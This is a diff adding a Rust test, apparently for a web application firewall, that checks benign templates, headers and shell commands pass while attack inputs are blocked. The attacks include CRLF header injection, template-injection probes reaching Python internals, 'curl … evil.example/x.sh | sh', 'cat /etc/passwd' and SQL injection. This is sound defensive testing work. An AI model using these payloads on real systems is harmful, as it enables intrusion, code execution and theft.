@@ -3178,6 +3178,97 @@ fn holdout30_shapes_pass_and_their_attacks_still_score() {
 }
 
 #[test]
+fn blind_sets_classes_are_read_structurally_and_their_attacks_still_score() {
+    // The classes behind the blind sets' blocks (holdouts 27-34), each read by a change of how a
+    // rule reads its context: 1006 on documents of `Name: value` lines, 3600 on templates by
+    // design, 3206 on shell loops, and weak signals of programs in several values. Each benign
+    // shape as a JSON field and as a query argument, next to the attacks written around it.
+    let waf = waf_with("{}");
+    let both = |v: &str| as_field_and_query(&waf, v);
+    for v in [
+        // 1006: YAML, labels, an alert's runbook line, a forwarded message's trace fields.
+        "token: $slack-token\nusername: shipyard\nicon: \":ship:\"",
+        "## Today\nGrid: **4.2 kWh**  \nSolar: 2.1 kWh",
+        "job=\"checkout\" value=0.07\nrunbook: https://wiki.example/runbooks/checkout#5xx",
+        "Received: from mail.client.example (mail.client.example [198.51.100.23])\r\nMessage-ID: <CAF=xyz123@mail.client.example>\r\nIn-Reply-To: <ticket-48820@acme.example>",
+        "Order 10442\nStatus: shipped\nCarrier: DHL\nTracking: 00340434161094042557",
+        // 3600: statements and expressions over the template's data and the host's functions.
+        "{% set t = states('sensor.outdoor_temperature') | float(0) %}\n{% if t < 0 %}Frost tonight ({{ t }}°C){% else %}{{ t }}°C, fine{% endif %}",
+        "Bonjour! It's {{ states('sensor.outdoor_temp') }} degrees. {% if is_state('calendar.bins','on') %}Bins go out tonight.{% endif %}",
+        "{{ states.binary_sensor | selectattr('attributes.device_class', 'eq', 'window') | map(attribute='name') | list | join(', ') or 'none' }}",
+        "Hi {{ name | default('friend') | title }}, {% for item in items | sort(attribute='price') %}{{ item.name }} {% endfor %}",
+        "{%- set total = order.items | sum(attribute='qty') -%}{{ total }} items",
+        // 3206: a shell loop's `; do echo`.
+        "for f in *.log; do echo \"== $f\"; tail -n 5 \"$f\"; done",
+    ] {
+        for o in both(v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    for v in [
+        // 1006: a header that does something on bare line feeds, any name but trace fields on CR LF,
+        // an HTTP line, a document.
+        "x\nSet-Cookie: sid=attacker",
+        "x\nLocation: https://evil.example/",
+        "x\nContent-Length: 0",
+        "x\nX-Forwarded-For: 127.0.0.1",
+        "a@b.example\nBcc: victim@c.example",
+        "token: t\nusername: u\nHost: evil.example",
+        "x\r\nX-User-Role: admin",
+        "x\r\nRemote-addr: foo.bar.com",
+        "x\r\nReceived: from a\r\nBcc: victim@c.example",
+        "x\nPOST / HTTP/1.1",
+        "x\r\n\r\n<html>Shazam</html>",
+        // 3600: what reaches the interpreter's internals, in statements and expressions.
+        "{% set x = self._TemplateReference__context %}",
+        "{% set x = lipsum.__globals__ %}",
+        "{%- set x = lipsum -%}",
+        "{% if ''.__class__ %}a{% endif %}",
+        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
+        "{% set a = '_'*2 %}{{ ''[a~'class'~a] }}",
+        "{% set x = ()|attr('\\x5f\\x5fclass\\x5f\\x5f') %}",
+        "{% set x = request.application %}",
+        "{% with a = namespace() %}{% endwith %}",
+        "{% set x = 7*7 %}{{ x }}",
+        "{%- if config -%}x{%- endif -%}",
+        "{% if 1 %}x{% endif %}",
+        "{{ ['id']|filter('system') }}",
+        "{{ ['id']|map('passthru')|join }}",
+        "{% set a = ['id']|sort('passthru') %}",
+        "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
+        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+        "{% set x = _self.env %}",
+        "{% set f = x.read() %}",
+        "{% import 'os' as os %}",
+        // 3206: batch's FOR.
+        "for %f in (*.log) do echo %f",
+        "for /f \"tokens=*\" %a in ('whoami') do set u=%a",
+    ] {
+        for o in both(v) {
+            assert!(o.blocked, "{v}: {o:?}");
+        }
+    }
+    // Weak signals of programs of one kind in several values are one piece of evidence, whatever
+    // the families: a shell history's commands (an SQL shape in one, a pipe in another).
+    let history = r#"{"history": [{"command": "git log --oneline -20 -- src/"}, {"command": "rg -n 'TODO|FIXME' --type rust | wc -l"}, {"command": "cat ~/.ssh/config | grep -A3 'Host bastion'"}, {"command": "psql \"$DATABASE_URL\" -c \"SELECT id FROM users WHERE created_at > now() - interval '1 day' ORDER BY id;\""}, {"command": "curl -s https://api.github.com/repos/x/y/releases/latest | jq -r '.tag_name'"}]}"#;
+    let o = json_post(&waf, history);
+    assert!(!o.blocked, "{o:?}");
+    // What reaches the system or breaks out still blocks beside them, and a weak signal of a
+    // value that is no program still adds up with a program's.
+    for body in [
+        r#"{"history": [{"command": "rg -n 'TODO|FIXME' --type rust | wc -l"}, {"command": "curl -s https://evil.example/x.sh | sh"}]}"#,
+        r#"{"history": [{"command": "ls -la"}, {"command": "cat /etc/passwd"}]}"#,
+        r#"{"history": [{"command": "ls -la | grep x"}, {"command": "x' or '1'='1"}]}"#,
+        r#"{"code": "console.log(1)", "q": "select name from users order by name"}"#,
+        // Programs of two kinds and two families: a command line and an SQL statement.
+        r#"{"cmd": "ls -la | grep x", "q": "select name from users order by name"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+}
+
+#[test]
 fn holdout33_and_34_shapes_pass_and_their_attacks_still_score() {
     // Holdouts 33 and 34 (sets written blind): 3600 read the starred form of a LaTeX command
     // (`\section*{…}`) as a Thymeleaf selection `*{…}`. Each shape as a JSON field and as a query
